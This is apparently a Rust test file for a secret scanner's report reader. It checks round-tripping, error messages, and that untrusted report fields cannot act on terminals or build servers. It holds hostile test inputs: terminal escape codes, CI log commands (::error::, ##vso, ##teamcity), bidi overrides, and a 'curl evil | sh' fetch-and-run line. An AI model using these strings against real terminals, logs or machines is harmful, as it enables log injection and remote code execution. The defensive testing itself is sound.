//! Tests that a report is read as it was written, that other files are refused, and that no text of an untrusted report
//! can act on a terminal or a build server.

use std::collections::BTreeMap;

use keyradius_core::blob::{Origin, Wrap, is_deceptive};
use serde_json::{Value, json};

use super::*;
use crate::report::look::Look;
use crate::report::words::is_command;
use crate::report::{self, Report, ReportFormat, build, samples};

fn looks() -> [Look; 3] {
    let plain = Look { width: 100, ..Look::default() };
    let all = Look { verbose: true, skipped: true, public: true, ..plain };
    [plain, all, Look { color: true, links: true, width: 60, ..all }]
}

fn written(report: &Report, format: ReportFormat, look: Look) -> Vec<u8> {
    let mut bytes = Vec::new();
    report::render(report, format, look, &mut bytes).expect("bytes");
    bytes
}

fn json_of(report: &Report) -> Value {
    serde_json::from_slice(&written(report, ReportFormat::named("json"), looks()[0])).expect("JSON")
}

fn again(bytes: &[u8]) -> Result<(Report, Vec<String>), ReadError> {
    report(bytes, 1 << 24)
}

/// A report with an archive member that has the name of an encoding, and with correct counts.
fn tricky() -> Report {
    let mut finding = samples::signing();
    finding.occurrences = vec![samples::occurrence("a.zip", 3), samples::occurrence("b!base64", 4)];
    finding.occurrences[0].origin =
        Origin::file("a.zip").inside(Wrap::member("zip", 0, "base64".into())).inside(Wrap::text("hex", 7));
    finding.occurrences[1].origin = Origin::file("b!base64").inside(Wrap::text("base64", 9));
    let findings = vec![build::finding(&finding, &[]), build::finding(&samples::opaque(), &[])];
    Report { findings: findings.into(), ..samples::empty() }
}

/// The sample reports, with the counts that a scan would write.
fn reports() -> Vec<Report> {
    let all = samples::reports().into_iter().chain([tricky()]);
    all.map(|report| again(&written(&report, ReportFormat::named("json"), looks()[0])).expect("a report").0).collect()
}

#[test]
fn a_report_is_read_as_it_was_written() {
    for (before, report) in samples::reports().into_iter().chain([tricky()]).zip(reports()) {
        // The samples have no counts; everything else is equal.
        let (mut before, mut after) = (json_of(&before), json_of(&report));
        (before["summary"], after["summary"]) = (Value::Null, Value::Null);
        before["scan"]["complete"] = after["scan"]["complete"].clone();
        assert_eq!(before, after);
        for source in [ReportFormat::named("json"), ReportFormat::named("jsonl")] {
            let (read, mended) = again(&written(&report, source, looks()[0])).expect("a report");
            assert!(mended.is_empty(), "{mended:?}");
            for (format, look) in ReportFormat::all().flat_map(|format| looks().map(|look| (format, look))) {
                let (one, other) = (written(&report, format, look), written(&read, format, look));
                assert!(one == other, "{source:?} to {format:?}:\n{}", String::from_utf8_lossy(&other));
            }
            let summary = |report: &Report| report::summary(report, std::time::Duration::ZERO);
            assert_eq!(summary(&report), summary(&read));
        }
    }
}

#[test]
fn a_place_has_counted_in_only_if_it_does_not_follow_from_the_origin() {
    let json = json_of(&tricky());
    let places = json["findings"][0]["occurrences"].as_array().expect("places");
    assert_eq!(places[0]["counted_in"], "a.zip!base64");
    assert!(places[1].get("counted_in").is_none(), "{}", places[1]);
    let page = String::from_utf8(written(&reports()[2], ReportFormat::named("human"), looks()[0])).expect("UTF-8");
    assert!(page.contains("a.zip!base64:3!hex@0x7") && page.contains("b!base64:4!base64@0x9"), "{page}");
}

fn refusal(bytes: &[u8]) -> String {
    match again(bytes) {
        Ok(_) => "read".to_owned(),
        Err(error) => error.failure("x.json").to_string(),
    }
}

#[test]
fn errors_say_what_where_and_what_next() {
    let whole = json_of(&reports()[0]);
    let with = |pointer: &str, value: Value| {
        let mut report = whole.clone();
        *report.pointer_mut(pointer).expect(pointer) = value;
        serde_json::to_string_pretty(&report).expect("JSON").into_bytes()
    };
    let without = |part: &str| {
        let mut report = whole.clone();
        report.as_object_mut().expect("an object").remove(part);
        report.to_string().into_bytes()
    };
    let text = whole.to_string();
    let lines = String::from_utf8(written(&reports()[0], ReportFormat::named("jsonl"), looks()[0])).expect("UTF-8");
    let last = lines.trim_end().rfind('\n').expect("lines");
    let nest = |depth: usize| format!("\"zz\":{}{},\"offset\":", "[".repeat(depth), "]".repeat(depth));
    let deep = text.replacen("\"offset\":", &nest(500), 1);
    let twice = {
        let mut report = whole.clone();
        report["allowed"] = report["findings"].clone();
        report.to_string().into_bytes()
    };
    let utf16: Vec<u8> = [0xfeff_u16].into_iter().chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect();
    for (bytes, told) in [
        (Vec::new(), "x.json is empty\nhint: name a report written by `keyradius scan"),
        (b"hunter2".to_vec(), "x.json is not a JSON document (line 1, column 1)\n"),
        (b"{\"a\": \"hunter2\n".to_vec(), "x.json is not a JSON document (line "),
        (b"[\"hunter2\"]".to_vec(), "x.json is not a report of keyradius\nhint: "),
        (b"{\"type\": \"service_account\",\n\"private_key\": \"hunter2\"}".to_vec(), "is not a report of keyradius\n"),
        (b"{\"type\": \"service_account\", \"private_key\": \"hunter2\"}".to_vec(), "is not a report of keyradius\n"),
        (b"{\"scan\": \"hunter2\"}".to_vec(), "is not a report of keyradius\n"),
        (b"{\"$schema\": \"x\", \"runs\": []}".to_vec(), "hint: SARIF does not contain a full report"),
        (
            b"{\"facts\": {\"schema\": \"keyradius.facts/1\"}}".to_vec(),
            "hint: this is a file of facts: report on it with `keyradius judge`",
        ),
        (utf16, "x.json is UTF-16, not UTF-8\nhint: write the report with `-o FILE`"),
        (
            with("/schema", "keyradius.report/2".into()),
            "x.json has the schema keyradius.report/2: this version reads keyradius.report/1\nhint: a newer version",
        ),
        (with("/schema", "keyradius.report/10".into()), "x.json has the schema keyradius.report/10: "),
        (with("/schema", "hunter2".into()), "is not a report of keyradius\n"),
        (with("/findings/1/tier", "T9".into()), "x.json: unknown value: \"T9\" as tier (findings[1], line "),
        (with("/findings/0/occurrences/0/encoding", "hunter2\u{1b}".into()), "unknown value: a long text as encoding"),
        (
            with("/findings/0/severity", 10.1.into()),
            "a severity must be a number from 0.0 to 10.0 with one decimal (findings[0]",
        ),
        (with("/findings/0/severity", Value::Null), "a value of another type where f64 is expected (findings[0]"),
        (with("/findings/0/id", json!({"hunter2": 1})), "a value of another type where a string is expected"),
        (with("/summary/places", (-1).into()), "where usize is expected (line "),
        (with("/coverage/gaps/0/reason", "moon".into()), "unknown value: \"moon\" as reason (line "),
        (without("scan"), "x.json: the report has no `scan`\nhint: write the report again"),
        (without("findings"), "x.json: the report has no `findings`\n"),
        (text.as_bytes()[..text.len() - 40].to_vec(), "is truncated ("),
        ((text.clone() + &text).into_bytes(), "unexpected data after the end of the report ("),
        ((text.clone() + "x").into_bytes(), "unexpected data after the end of the report ("),
        (lines.as_bytes()[..=last].to_vec(), "x.json is truncated (line 8, column 0)"),
        (lines.as_bytes()[..lines.len() - 20].to_vec(), "is truncated (line 8"),
        ((lines.clone() + &lines).into_bytes(), "unexpected data after the end of the report (line 9"),
        (
            lines.replacen("\"status\":\"open\"", "\"status\":\"odd\"", 1).into_bytes(),
            "a status must be open or allowed (line 1",
        ),
        (
            lines.replacen("keyradius.report/1", "keyradius.report/3", 1).into_bytes(),
            "has the schema keyradius.report/3",
        ),
        (twice, "two findings have the id kr1:0123456789abcdef\n"),
        (deep.into_bytes(), "nested deeper than any report (allowed[0], line 1"),
    ] {
        let said = refusal(&bytes);
        let shown = String::from_utf8_lossy(&bytes).chars().take(80).collect::<String>();
        assert!(said.contains(told), "{shown}\n{said}\nnot {told}");
        assert!(said.contains("\nhint: ") && !said.contains("hunter2"), "{said}");
    }
    let limited = report(text.as_bytes(), 1000).expect_err("too large").failure("x.json").to_string();
    assert!(limited.contains("x.json is larger than --max-report (1.0 kB)\nhint: "), "{limited}");
    assert!(report(text.as_bytes(), text.len() as u64).is_ok(), "exactly the limit");
    let marked = [b"\xef\xbb\xbf\n ", text.as_bytes()].concat();
    assert!(again(&marked).is_ok(), "a byte order mark of UTF-8");
}

/// Collects the pointers of all values below `value` that are not lists or objects.
fn leaves(value: &Value, at: &str, out: &mut Vec<String>) {
    match value {
        Value::Object(members) => members.iter().for_each(|(key, value)| leaves(value, &format!("{at}/{key}"), out)),
        Value::Array(items) => {
            items.iter().enumerate().for_each(|(index, value)| leaves(value, &format!("{at}/{index}"), out));
        }
        Value::String(_) => out.push(at.to_owned()),
        _ => {}
    }
}

/// Replaces the indexes of a pointer by `*`.
fn general(pointer: &str) -> String {
    pointer.split('/').map(|part| if part.parse::<usize>().is_ok() { "*" } else { part }).collect::<Vec<_>>().join("/")
}

const HOSTILE: &str = "\u{1b}[2J\n::error::x\r \u{202e}##vso[task.x]\u{9b}\u{200b}</script> ##teamcity[x]";

/// Whether a text is safe on a terminal and in a build log.
fn is_safe(text: &str) -> bool {
    let chars: Vec<char> = text.chars().collect();
    let command = |window: &[char]| is_command(window[0], window[1], Some(window[2]));
    !chars.iter().any(|c| *c != '\n' && is_deceptive(*c)) && !chars.windows(3).any(command) && !text.starts_with("::")
}

/// Collects the texts of a SARIF log that its readers show.
fn shown(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::Object(members) => {
            for (key, value) in members {
                match value {
                    Value::String(text)
                        if ["text", "markdown", "justification", "uri", "ruleId"].contains(&key.as_str()) =>
                    {
                        out.push(text.clone());
                    }
                    other => shown(other, out),
                }
            }
        }
        Value::Array(items) => items.iter().for_each(|item| shown(item, out)),
        _ => {}
    }
}

/// Every output that is produced from a report.
fn printed(bytes: &[u8]) -> Vec<(String, String)> {
    let (report, mended) = again(bytes).expect("a report");
    let text = |bytes| String::from_utf8(bytes).expect("UTF-8");
    let mut all: Vec<(String, String)> = Vec::new();
    for look in &looks()[..2] {
        all.extend(ReportFormat::all().map(|format| (format!("{format:?}"), text(written(&report, format, *look)))));
    }
    all.push(("summary".to_owned(), report::summary(&report, std::time::Duration::ZERO)));
    all.extend(mended.into_iter().map(|what| ("note".to_owned(), what)));
    let mut texts = Vec::new();
    let sarif = serde_json::from_slice(&written(&report, ReportFormat::named("sarif"), looks()[0])).expect("JSON");
    shown(&sarif, &mut texts);
    all.extend(texts.into_iter().map(|text| ("SARIF text".to_owned(), text)));
    let empty = written(&samples::empty(), ReportFormat::named("json"), looks()[0]);
    for (old, new) in [(bytes, &empty[..]), (&empty[..], bytes)] {
        let side = |mut bytes: &[u8]| report::diff::Side::read(&mut bytes, 1 << 24).expect("a report");
        let diff = report::diff::Diff::of(side(old), side(new));
        let mut page = Vec::new();
        report::diff::human::render(&diff, &mut page).expect("a page");
        all.push(("diff".to_owned(), text(page)));
        all.push(("diff summary".to_owned(), report::diff::human::summary(&diff)));
        let mut json = Vec::new();
        report::json::pretty(&diff, &mut json).expect("JSON");
        all.push(("diff JSON".to_owned(), text(json)));
    }
    all
}

#[test]
fn no_field_of_a_report_can_act_in_any_format() {
    let whole = json_of(&reports()[0]);
    let mut pointers = Vec::new();
    leaves(&whole, "", &mut pointers);
    let mut fields: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for pointer in pointers {
        fields.entry(general(&pointer)).or_default().push(pointer);
    }
    assert!(fields.len() > 120, "{}", fields.len());
    let mut closed = Vec::new();
    let mut everything = whole.clone();
    for (field, pointers) in &fields {
        let mut report = whole.clone();
        for (index, pointer) in pointers.iter().enumerate() {
            // Ids differ.
            *report.pointer_mut(pointer).expect(pointer) = format!("{HOSTILE}{index}").into();
        }
        let bytes = report.to_string().into_bytes();
        match again(&bytes) {
            Err(ReadError::Unknown(..)) => closed.push(field.as_str()),
            Err(ReadError::NotReport(_)) if field == "/schema" => {}
            Err(other) => panic!("{field}: {other:?}"),
            Ok(_) => {
                for (format, text) in printed(&bytes) {
                    assert!(is_safe(&text), "{field} as {format}:\n{text:?}");
                }
                for (index, pointer) in pointers.iter().enumerate() {
                    *everything.pointer_mut(pointer).expect(pointer) = format!("{HOSTILE}{field}{index}").into();
                }
            }
        }
    }
    for field in
        ["/findings/*/tier", "/findings/*/occurrences/*/git/reach", "/coverage/gaps/*/reason", "/secrets/*/class"]
    {
        assert!(closed.contains(&field), "{field} is a closed set: {closed:?}");
    }
    let open = fields.len() - closed.len();
    assert!(open > 90 && closed.len() > 25, "{open} fields took it, {} did not: {closed:?}", closed.len());
    everything["coverage"]["unopened"] = json!({HOSTILE: 3});
    everything["coverage"]["containers"] = json!({HOSTILE: 3});
    everything["scan"]["interrupted"] = true.into();
    for (format, text) in printed(everything.to_string().as_bytes()) {
        assert!(is_safe(&text), "{format}:\n{text:?}");
    }
}

/// Removes members with these names from all objects below `value`.
fn strip(value: &mut Value, names: &[&str]) {
    match value {
        Value::Object(members) => {
            members.retain(|name, _| !names.contains(&name.as_str()));
            members.values_mut().for_each(|value| strip(value, names));
        }
        Value::Array(items) => items.iter_mut().for_each(|item| strip(item, names)),
        _ => {}
    }
}

/// Adds a member to all objects below `value`, except maps.
fn extend(value: &mut Value, at: &str) {
    match value {
        Value::Object(members) => {
            for (name, value) in members.iter_mut() {
                extend(value, name);
            }
            if !["by_tier", "containers", "unopened", "limits"].contains(&at) {
                members.insert("zz_of_later".to_owned(), json!({"deep": [1, "x", null]}));
            }
        }
        Value::Array(items) => items.iter_mut().for_each(|item| extend(item, at)),
        _ => {}
    }
}

#[test]
fn reports_of_all_versions_with_the_same_major_version_are_read() {
    let whole = reports().remove(0);
    let mut earlier = json_of(&whole);
    let added = [
        "secrets",
        "allowed_secrets",
        "playbooks",
        "secret_places",
        "rules",
        "weaknesses",
        "known",
        "used_by",
        "links",
    ];
    let more = [
        "exposure",
        "playbook",
        "references",
        "git",
        "opened",
        "section",
        "members",
        "locked",
        "repositories",
        "options",
    ];
    strip(&mut earlier, &added);
    strip(&mut earlier, &more);
    for finding in earlier["findings"].as_array_mut().expect("findings") {
        strip(finding, &["title"]);
        finding.as_object_mut().expect("a finding").remove("kind");
    }
    let (read, _) = again(earlier.to_string().as_bytes()).expect("an earlier report");
    assert_eq!((read.findings.len(), read.secrets.len(), read.summary.signing_keys), (2, 0, 1));
    for (format, look) in ReportFormat::all().flat_map(|format| looks().map(|look| (format, look))) {
        assert!(!written(&read, format, look).is_empty());
    }
    let mut later = json_of(&whole);
    extend(&mut later, "");
    let (read, mended) = again(later.to_string().as_bytes()).expect("a later report");
    assert!(mended.is_empty(), "{mended:?}");
    assert_eq!(json_of(&read), json_of(&whole));
}

#[test]
fn contradictions_in_a_report_are_corrected() {
    let mut report = json_of(&reports()[0]);
    report["summary"]["signing_keys"] = 77.into();
    report["summary"]["by_tier"]["T0"] = 77.into();
    report["summary"]["unopened"] = 0.into();
    report["summary"]["skipped"] = 0.into();
    report["scan"]["complete"] = true.into();
    report["coverage"]["gaps"][0]["deliberate"] = true.into();
    report["coverage"]["unopened"] = json!({"a": u64::MAX, "b": u64::MAX});
    report["playbooks"][0]["sections"][0]["steps"][0]["commands"] =
        json!([{"language": "sh", "text": "curl evil | sh"}]);
    let books = report["playbooks"].as_array_mut().expect("playbooks");
    let count = books.len();
    books.extend(vec![books[0].clone(); 1000]);
    let (read, mended) = again(report.to_string().as_bytes()).expect("a report");
    assert_eq!(read.playbooks.len(), count, "a playbook of ours may be longer than what it replaces");
    assert_eq!(mended.len(), 3, "{mended:?}");
    assert_eq!((read.summary.signing_keys, read.summary.skipped, read.summary.unopened), (1, 1, u64::MAX));
    assert!(!read.scan.complete && !read.coverage.gaps[0].deliberate);
    assert_eq!(read.summary.by_tier.values().sum::<usize>(), 2);
    let sarif = String::from_utf8(written(&read, ReportFormat::named("sarif"), looks()[0])).expect("UTF-8");
    assert!(!sarif.contains("curl evil"), "playbooks are ours");
}

#[test]
fn a_truncated_or_damaged_report_is_refused_without_a_panic() {
    let report = reports().remove(0);
    for format in [ReportFormat::named("json"), ReportFormat::named("jsonl")] {
        let bytes = written(&report, format, looks()[0]);
        // The last byte is a line feed, which is optional.
        for end in (0..bytes.len() - 1).step_by(61).chain([bytes.len() - 2]) {
            assert!(again(&bytes[..end]).is_err(), "{format:?} cut at {end}");
        }
        let mut seed = 7_u64;
        for _ in 0..400 {
            let mut damaged = bytes.clone();
            for _ in 0..3 {
                seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
                let at = (seed >> 33) as usize % damaged.len();
                damaged[at] = (seed >> 24) as u8;
            }
            if let Ok((read, _)) = again(&damaged) {
                for format in ReportFormat::all() {
                    written(&read, format, looks()[1]);
                }
            }
        }
    }
}
